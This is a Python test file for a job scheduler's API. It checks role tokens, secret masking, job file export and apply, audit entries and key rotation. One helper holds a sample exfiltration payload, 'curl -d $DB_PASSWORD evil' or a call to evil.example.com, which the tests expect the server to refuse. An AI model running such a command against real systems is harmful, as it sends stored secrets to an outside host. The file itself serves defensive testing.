"""Roles, narrowed tokens, secrets, channels and job files together: what one of them hides, no other one shows."""

from __future__ import annotations

from typing import Any

import asyncpg
import httpx
import pytest

from mainspring.operations.secrets.master_keys import new_key
from tests.api.bookkeeping import problem
from tests.operations.hand_worker import outcome
from tests.operations.test_secrets import VALUE, Server
from tests.operations.test_secrets import server as server
from tests.operations.workflows.scene import Scene

pytestmark = pytest.mark.anyio

ENV = {"DB_PASSWORD": {"$secret": "db-password"}}
HOOK = {"kind": "webhook", "url": "https://example.com/hook", "secret": "the secret of the hook"}


async def client_of(server: Server, role: str, **narrowed: Any) -> httpx.AsyncClient:
    answer = await server.api.post("/v1/tokens", json={"role": role, "name": role, **narrowed})
    assert answer.status_code == 201, answer.text
    headers = {"Authorization": f"Bearer {answer.json()['token']}"}
    return httpx.AsyncClient(transport=server.api._transport, base_url=server.api.base_url, headers=headers)


async def made(client: httpx.AsyncClient, path: str, body: Any) -> Any:
    answer = await client.post(path, json=body)
    assert answer.status_code < 300, answer.text
    return answer.json()


async def test_the_answer_to_a_change_by_a_submitter_is_masked(server: Server) -> None:
    """An admin has added a value to a job and a workflow of the submitter."""
    submitter = await client_of(server, "submitter")
    secret = {"API_TOKEN": "a token of the admin"}
    await made(submitter, "/v1/jobs", {"job_id": "mine", "command": "true", "schedule": "@daily"})
    steps = [{"name": "a", "command": "true"}]
    await made(submitter, "/v1/workflows", {"workflow_id": "flow", "steps": steps})
    assert (await server.api.patch("/v1/jobs/mine", json={"env": secret})).status_code == 200
    changed = await server.api.patch("/v1/workflows/flow", json={"steps": [{**steps[0], "env": secret}]})
    assert changed.status_code == 200 and secret["API_TOKEN"] in (await server.api.get("/v1/workflows/flow")).text
    for path in ("/v1/jobs/mine", "/v1/workflows/flow"):
        for method, verb, body in (
            ("PATCH", "", {"name": "x"}), ("PUT", "", {"name": "y"}), ("POST", ":pause", None),
            ("POST", ":resume", None), ("POST", ":runNow", None), ("DELETE", "", None),
        ):  # fmt: skip
            answer = await submitter.request(method, f"{path}{verb}", json=body)
            assert answer.status_code in (200, 202), answer.text
            assert secret["API_TOKEN"] not in answer.text, (method, verb)


CALL = {"url": "https://example.com/", "headers": {"X-Key": {"$secret": "db-password"}}}
# Jobs with a secret, and a payload with which somebody who may not submit jobs would learn it.
COMMANDS: dict[str, dict[str, Any]] = {
    "dropped": {"command": "./report.sh", "payload": {"a": 1}, "keep_payload": False, "env": ENV},
    "in-payload": {"task": "shell", "payload": {"command": "./report.sh"}, "env": ENV},
    "call": {"task": "http", "payload": CALL},
    "plain-call": {"task": "http", "payload": {"url": "https://example.com/"}},
}


def stolen(job: str) -> dict[str, Any]:
    return {**CALL, "url": "https://evil.example.com/"} if "call" in job else {"command": "curl -d $DB_PASSWORD evil"}


async def test_another_payload_gives_no_secret_to_another_command_or_address(server: Server) -> None:
    operator = await client_of(server, "operator")
    await server.put()
    for job, body in COMMANDS.items():
        await made(server.api, "/v1/jobs", {"job_id": job, "retries": 0, "overlap": "allow", **body})
    worker = server.worker("shell", "http")
    orders = {order.job_id: order for order in (await worker.hello(free=10)).runs}
    await worker.report(*(outcome(orders[job]) for job in COMMANDS))
    for job in COMMANDS:
        for path in (f"/v1/runs/{orders[job].run_id}:retry", f"/v1/jobs/{job}:runNow"):
            refused = problem(await operator.post(path, json={"payload": stolen(job)}))
            assert (refused["status"], refused["code"], refused["field"]) == (422, "secret_not_allowed", "payload"), job
            assert "db-password" in refused["detail"]
    await made(operator, f"/v1/runs/{orders['dropped'].run_id}:retry", {"payload": {"a": 2}})
    await made(
        operator, f"/v1/runs/{orders['in-payload'].run_id}:retry", {"payload": {"command": "./report.sh", "a": 2}}
    )
    again = {order.job_id: order for order in (await worker.exchange(free=10)).runs}
    assert {job: order.command for job, order in again.items()} == dict.fromkeys(
        ("dropped", "in-payload"), "./report.sh"
    )
    assert all(order.secrets is not None and order.secrets.values == {"db-password": VALUE} for order in again.values())


async def test_a_job_file_has_channels_secrets_and_search_keys(server: Server) -> None:
    await server.put()
    assert (await server.api.put("/v1/channels/ops", json=HOOK)).status_code == 201
    notify = [{"on": ["failure", "recovered"], "to": ["ops"]}]
    body = {"schedule": "@daily", "command": "true", "env": {**ENV, "A": "1"}, "search": ["account"], "notify": notify}
    await made(server.api, "/v1/jobs", {"job_id": "nightly", **body})
    [exported] = (await made(server.api, "/v1/files:export", {"kind": "jobs"}))["objects"]
    assert exported["body"]["notify"] == notify and exported["body"]["env"] == body["env"]
    wanted = {"kind": "jobs", "id": "nightly", "body": exported["body"]}
    for action in ("adopt", "unchanged"):
        done = await made(server.api, "/v1/files:apply", {"owner": "ours", "objects": [wanted]})
        assert [change["action"] for change in done["changes"]] == [action], done
    assert (await server.api.get("/v1/jobs/nightly")).json()["version"] == 1
    wanted["body"] = {**exported["body"], "notify": [{"on": ["failure"], "to": ["opss"]}]}
    refused = problem(await server.api.post("/v1/files:apply", json={"owner": "ours", "objects": [wanted]}))
    assert refused["field"] == "objects[0].notify[0].to" and refused["hint"] == "did you mean 'ops'?"
    wanted["body"] = {**exported["body"], "env": {"A": {"$secret": "db-passwort"}}}
    refused = problem(await server.api.post("/v1/files:apply", json={"owner": "ours", "objects": [wanted]}))
    assert refused["field"] == "objects[0].env.A" and refused["errors"][0]["code"] == "unknown_secret"


async def test_a_step_has_secrets_and_parameters_in_one_call(server: Server, connection: asyncpg.Connection) -> None:
    """A parameter that looks like a reference to a secret is none."""
    scene = Scene(server.assembly, server.api, connection)
    for name in ("db-password", "other"):
        assert (await server.put(name)).status_code == 201
    call = {"url": "https://example.com/", "method": "POST", "headers": CALL["headers"], "body": {"$parameter": "p"}}
    for name, step in (("by-field", {"http": call}), ("by-payload", {"task": "http", "payload": call})):
        body = {"workflow_id": name, "steps": [{"name": name, **step}], "parameters": {"p": {}}}
        await made(server.api, "/v1/workflows", body)
        await scene.begin(name, parameters={"p": {"$secret": "other"}})
    orders = (await server.worker("http").hello(free=10)).runs
    assert [order.name for order in orders] == ["by-field", "by-payload"]
    for order in orders:
        assert order.secrets is not None and order.secrets.values == {"db-password": VALUE}


async def test_an_application_of_files_tells_who_owns_what(server: Server) -> None:
    """Ownership decides what a later application may change and remove, so a change of it has an entry."""
    objects = [
        {"kind": "calendars", "id": "work", "body": {"weekdays": ["MON"]}},
        {"kind": "limits", "id": "mails", "body": {"concurrency": 5}},
        {"kind": "jobs", "id": "nightly", "body": {"schedule": "@daily", "command": "true"}},
        {"kind": "workflows", "id": "flow", "body": {"steps": [{"name": "a", "task": "noop"}]}},
    ]

    async def owners(owner: str, **more: Any) -> list[tuple[str, str, Any, Any]]:
        """The changes of owners that the entries since the last call tell."""
        before = len((await server.api.get("/v1/audit?limit=500")).json()["entries"])
        await made(server.api, "/v1/files:apply", {"owner": owner, "objects": objects, **more})
        entries = (await server.api.get("/v1/audit?limit=500")).json()["entries"]
        assert all(entry["operation"] == "files.apply" for entry in entries[: len(entries) - before])
        return sorted(
            (entry["kind"], entry["id"], (entry["before"] or {}).get("owned_by"), entry["after"]["owned_by"])
            for entry in entries[: len(entries) - before]
            if "owned_by" in (entry["after"] or {})
        )

    named = [("calendar", "work"), ("job", "flow"), ("job", "nightly"), ("queue", "mails")]
    assert await owners("ours") == [], "what the files create is theirs"
    assert await owners("ours") == []
    assert await owners("theirs", take_over=True) == [(*one, "ours", "theirs") for one in named]
    await made(server.api, "/v1/jobs", {"job_id": "by-hand", "schedule": "@daily", "command": "true"})
    objects.append({"kind": "jobs", "id": "by-hand", "body": objects[2]["body"]})
    assert await owners("theirs") == [("job", "by-hand", None, "theirs")]


async def test_the_filter_of_a_verb_on_many_runs_tells_no_payload_in_the_audit(server: Server) -> None:
    chosen = {"task": "noop", "payload": {"account": "4711-private"}}
    await made(server.api, "/v1/runs:act", {"verb": "cancel", "filter": chosen, "expected": 0})
    [entry] = (await server.api.get("/v1/audit", params={"kind": "operation"})).json()["entries"]
    assert entry["after"]["filter"]["task"] == "noop" and entry["after"]["filter"]["payload"]["digest"]
    assert "4711-private" not in (await server.api.get("/v1/audit")).text


async def test_new_master_keys_and_their_entry_are_one_transaction(
    server: Server, connection: asyncpg.Connection
) -> None:
    await server.put()
    key_ids = "select array_agg(key_id) from mainspring.secret_keys"
    before = await connection.fetchval(key_ids)
    server.keys.text = f"{new_key()},{server.keys.text}"
    await connection.execute("alter table mainspring.audit_entries add constraint none_fits check (false) not valid")
    assert (await server.api.post("/v1/secrets:rotateKey")).status_code == 500
    assert await connection.fetchval(key_ids) == before
    await connection.execute("alter table mainspring.audit_entries drop constraint none_fits")
    assert (await server.api.post("/v1/secrets:rotateKey")).json()["rewrapped"] == 1
    assert await connection.fetchval(key_ids) != before


async def test_a_call_in_the_payload_of_a_dependent_job_has_secrets(server: Server) -> None:
    await server.put()
    await made(server.api, "/v1/jobs", {"job_id": "first", "task": "noop"})
    call = {**CALL, "method": "POST", "body": {"rows": {"$from": "first"}}}
    await made(server.api, "/v1/jobs", {"job_id": "then", "task": "http", "payload": call, "depends_on": ["first"]})
    worker = server.worker("noop", "http")
    [first] = (await worker.hello(free=1)).runs
    reply = await worker.exchange(outcomes=[outcome(first, result={"$secret": "other"})], free=1)
    [then] = reply.runs or (await worker.exchange(free=1)).runs
    assert b'"rows":{"$secret":"other"}' in bytes(then.payload)
    assert then.secrets is not None and then.secrets.values == {"db-password": VALUE}
    refused = problem(
        await server.api.post("/v1/jobs", json={"task": "noop", "payload": CALL, "depends_on": ["first"]})
    )
    assert refused["code"] == "invalid_reference", "the payload of other tasks has no secrets"


async def test_a_token_without_payloads_exports_no_files(server: Server) -> None:
    """A file whose objects are empty would be of no use, and would look like one."""
    await made(server.api, "/v1/jobs", {"job_id": "nightly", "schedule": "@daily", "command": "true"})
    admin = await client_of(server, "admin", payloads=False)
    refused = problem(await admin.post("/v1/files:export", json={"kind": "jobs"}))
    assert (refused["status"], refused["code"]) == (403, "narrowed_token")
    assert "files.export" not in (await admin.get("/v1/session")).json()["operations"]
